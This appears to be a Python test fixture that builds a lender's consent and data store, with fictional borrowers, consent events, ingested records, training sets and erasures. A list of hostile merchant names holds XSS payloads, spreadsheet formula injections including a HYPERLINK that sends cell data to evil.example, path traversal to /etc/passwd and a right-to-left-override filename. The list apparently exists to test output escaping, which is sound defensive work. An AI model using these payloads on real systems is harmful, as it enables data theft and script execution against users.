"""A lender's home made with the real commands: borrowers, what each agreed to, and what was done with their data."""

from __future__ import annotations

import contextlib
import io
import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq

from consent.clock import format_instant, now_utc
from consent.home import CONFIG_FILE, Home
from console.cli import run

DAY = timedelta(days=1)
#: Everything of her: three sources, quarantine, a joint account, training sets, a model.
ANNA = "客户-0001"
#: The other person of Anna's account.
BELA = "C-BELA-0002"
#: Under a legal hold, with an erasure that waits for its release.
CHEN = "C-CHEN-0003"
#: Her texts are meant to do harm.
DORA = "<b>\"D\" & 'co'</b>"
#: Said no; nothing is held but that.
EMIL = "C-EMIL-0005"
#: Erased.
FINN = "C-FINN-0006"
#: One source of him is erased.
HUGO = "C-HUGO-0008"
#: Nobody has recorded anything of.
NOBODY = "C-NOBODY-0009"
#: Of whom there can be a package.
ALIVE = (ANNA, BELA, CHEN, DORA, EMIL, HUGO)
SOURCES = ("spending", "employment", "app_usage")
PURPOSES = ("credit_scoring", "model_training", "fraud_detection")

#: What a merchant, employer or counterparty of Dora is called.
HOSTILE = (
    "<script>alert(1)</script>",
    "</td></table></body><img src=x onerror=alert(1)>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+31 6 1234",
    "-2+3",
    "@SUM(1+1)",
    "\tTab",
    "\rReturn",
    "\nLine",
    "＝1+1",
    "'already",
    "../../etc/passwd",
    "盒马鲜生，上海",
    "😀👩‍👩‍👧",
    "\u202egnp.exe",
    'a,b;"c"',
    "&lt;b&gt;",
    "\x07bell",
    "1 = 1",
)
#: Only in other people's data.
BELAS = ("CANARY-BELA-MERCHANT", "7654321.13", "CANARY-BELA-EMPLOYER", "com.canary.bela")
CHENS = ("CANARY-CHEN-MERCHANT",)
CONTROLLER = """
[controller]
name = "惠民 <Lending> & Co"
address = "1 Example Road, 100000 Example City"
contact = "privacy@lender.example"
url = "https://lender.example"
withdraw_at = "https://lender.example/consent?a=1&b=2"
storage_locations = ["CN"]
recipients = ["Credit Bureau <Ltd>"]
"""
_TERMS = {
    "notice_id": "spending & more",
    "notice_version": "3",
    "notice_language": "zh-CN",
    "notice_hash": "ab" * 32,
    "jurisdiction": "CN",
    "method": "toggle, <default> off",
    "expires_at": "2099-01-01",
    "data_from": "2020-01-01",
    "evidence_hash": "cd" * 32,
}


@dataclass(frozen=True)
class Borrowers:
    """The home, the files that were loaded, and what came of it.

    Attributes:
        rows: source -> every row that was in a file, as it was written there.
        receipts: of the training set with everybody in it, and of one with Bela alone.
    """

    home: Home
    now: datetime
    rows: dict[str, list[dict[str, Any]]]
    receipts: tuple[str, str]

    def key(self, customer: str) -> str:
        """The pseudonym of a person on record."""
        (found,) = self.home.directory.find([customer])
        assert found is not None
        return found


def lend(root: Path) -> Borrowers:
    """Make the home under a directory, with the commands a lender would use."""
    now = now_utc()
    assent(root, "init")
    _configure(root / "home")
    _agree(root, now)
    rows = _load(root, now)
    assent(root, "publish")
    rows["spending"] += _load_more(root, now)
    loans = _csv(root / "loans.csv", [_loan(who, now) for who in (ANNA, BELA, CHEN, DORA, HUGO)])
    assent(root, "publish", "--entities", loans)
    everybody = _training_set(root, loans)
    only_bela = _training_set(root, _csv(root / "bela.csv", [_loan(BELA, now)]))
    assent(root, "model", "register", "scorecard-1", "--receipt", everybody)
    assent(root, "model", "register", "belas-model", "--receipt", only_bela)
    _change_minds(root)
    return Borrowers(Home.open(root / "home"), now, rows, (everybody, only_bela))


def assent(root: Path, *arguments: str | Path, expect: int = 0) -> str:
    """Run a command on the home; what it says."""
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = run([*map(str, arguments), "--home", str(root / "home")])
    assert code == expect, err.getvalue()
    return out.getvalue()


def _configure(home: Path) -> None:
    path = home / CONFIG_FILE
    text = path.read_text().replace("reject_above = 0.05", "reject_above = 0.9")
    path.write_text(text + CONTROLLER)


def _agree(root: Path, now: datetime) -> None:
    """Agreed 200 days ago; Anna paused and resumed since, and took back training on her app usage."""
    given = [
        _said("given", who, now - 200 * DAY, source=source, purpose=purpose, **_TERMS, **_limits(source))
        for who in (ANNA, BELA, CHEN, DORA, FINN, HUGO)
        for source in SOURCES
        for purpose in PURPOSES
    ]
    later = [
        _said("refused", EMIL, now - 100 * DAY, source="spending", purpose="credit_scoring"),
        _said("linked", ANNA, now - 199 * DAY, source="spending", co_subject_id=BELA),
        _said("linked", BELA, now - 199 * DAY, source="spending", co_subject_id=ANNA),
        _said("paused", ANNA, now - 90 * DAY, source="employment", purpose="*"),
        _said("resumed", ANNA, now - 60 * DAY, source="employment", purpose="*"),
        _said("withdrawn", ANNA, now - 30 * DAY, source="app_usage", purpose="model_training"),
    ]
    path = root / "consents.jsonl"
    path.write_text("".join(json.dumps(line, ensure_ascii=False) + "\n" for line in given + later))
    assent(root, "consent", "import", path)


def _limits(source: str) -> dict[str, str]:
    return {"data_life_days": "3000", "retention_days": "2000"} if source == "spending" else {}


def _said(event: str, who: str, at: datetime, **fields: str) -> dict[str, str]:
    return {"event": event, "subject_id": who, "effective_at": format_instant(at), **fields}


def _load(root: Path, now: datetime) -> dict[str, list[dict[str, Any]]]:
    spending = [
        *(_transaction(ANNA, f"A{i}", now - i * DAY, merchant="盒马鲜生") for i in range(1, 7)),
        _transaction(ANNA, "A7", now - 8 * DAY, balance_after="-12.30", counterparty="Ω Bank"),
        _transaction(ANNA, "A8", now - 9 * DAY, kind="salary", direction="credit", amount="8000.00"),
        _transaction(ANNA, "A9", now - 10 * DAY, amount="-5.00"),
        _transaction(ANNA, "A10", now - 11 * DAY, amount="=1+1"),
        *(
            _transaction(BELA, f"B{i}", now - i * DAY, merchant=BELAS[0], amount=BELAS[1])
            for i in range(1, 4)
        ),
        _transaction(BELA, "B9", now - 9 * DAY, amount="-6.00", merchant=BELAS[0]),
        *(_transaction(CHEN, f"C{i}", now - i * DAY, merchant=CHENS[0]) for i in range(1, 3)),
        *(_transaction(who, f"X{who}", now - 3 * DAY) for who in (FINN, HUGO, EMIL, NOBODY)),
    ]
    employment = [
        _spell(ANNA, now, "Acme <Ltd>", monthly_salary="8000.00"),
        _spell(ANNA, now, "Old & Co", record_id="r2", ended_on="2024-12-31", started_on="2024-01-01"),
        _spell(BELA, now, BELAS[2]),
        _spell(DORA, now, HOSTILE[0]),
        _spell(HUGO, now, "Hugo's"),
    ]
    apps = [
        *(_use(ANNA, now - i * DAY, "com.example.app") for i in range(1, 4)),
        *(_use(BELA, now - i * DAY, BELAS[3]) for i in range(1, 4)),
        _use(HUGO, now - DAY, "com.example.app"),
    ]
    assent(root, "ingest", "spending", _csv(root / "spending.csv", spending))
    assent(root, "ingest", "employment", _jsonl(root / "employment.jsonl", employment))
    pq.write_table(pa.Table.from_pylist(apps), root / "apps.parquet")
    assent(root, "ingest", "app_usage", root / "apps.parquet")
    return {"spending": spending, "employment": employment, "app_usage": apps}


def _load_more(root: Path, now: datetime) -> list[dict[str, Any]]:
    """A second file, in another encoding, with what is meant to do harm."""
    rows = [
        _transaction(DORA, f"D{i}", now - (i + 1) * DAY, merchant=text, counterparty=text)
        for i, text in enumerate(HOSTILE)
    ]
    rows += [_transaction(DORA, "D-bad", now - 2 * DAY, kind="<b>", merchant=HOSTILE[2])]
    rows += [_transaction(ANNA, "A20", now - 2 * DAY, merchant="永辉超市")]
    path = _jsonl(root / "more.jsonl", rows, encoding="gb18030")
    assent(root, "ingest", "spending", path, "--encoding", "gb18030")
    return rows


def _training_set(root: Path, loans: Path) -> str:
    said = assent(
        root,
        *("training-set", loans, "--service", "scorecard_training_v1"),
        *("--out", root / "training.parquet", "--json"),
    )
    return str(json.loads(said)["receipt"]["receipt_id"])


def _change_minds(root: Path) -> None:
    """What happens after the data was used."""
    assent(root, "consent", "withdraw", ANNA, "--source", "app_usage")
    assent(root, "consent", "withdraw", BELA, "--source", "spending", "--purpose", "fraud_detection")
    assent(root, "hold", "place", CHEN, "--name", "2026-17", "--basis", "SECRET court order")
    assent(root, "consent", "request-erasure", CHEN, "--source", "spending")
    assent(root, "erase", FINN)
    assent(root, "erase", HUGO, "--source", "employment")


def _transaction(who: str, number: str, at: datetime, **values: str) -> dict[str, Any]:
    return {
        "subject_id": who,
        "transaction_id": number,
        "occurred_at": format_instant(at),
        "amount": "12.50",
        "currency": "CNY",
        "direction": "debit",
        "kind": "purchase",
        "category": "groceries",
        "merchant": "shop",
        "counterparty": "",
        "balance_after": "",
    } | values


def _spell(who: str, now: datetime, employer: str, **values: str) -> dict[str, Any]:
    return {
        "subject_id": who,
        "record_id": "r1",
        "reported_at": format_instant(now - 20 * DAY),
        "employer": employer,
        "employer_type": "private",
        "job_title": "clerk",
        "currency": "CNY",
        "started_on": "2025-01-01",
    } | values


def _use(who: str, at: datetime, package: str) -> dict[str, Any]:
    return {
        "subject_id": who,
        "occurred_at": at.astimezone(UTC),
        "package": package,
        "event": "open",
        "category": "finance",
        "device_id": f"device of {package}",
        "duration_s": 60,
    }


def _loan(who: str, now: datetime) -> dict[str, Any]:
    return {"subject_id": who, "event_timestamp": format_instant(now - DAY / 2)}


def _csv(path: Path, rows: Iterable[Mapping[str, Any]]) -> Path:
    import csv

    rows = list(rows)
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def _jsonl(path: Path, rows: Iterable[Mapping[str, Any]], encoding: str = "utf-8") -> Path:
    lines = (json.dumps({k: v for k, v in row.items() if v != ""}, ensure_ascii=False) for row in rows)
    path.write_bytes("".join(f"{line}\n" for line in lines).encode(encoding))
    return path
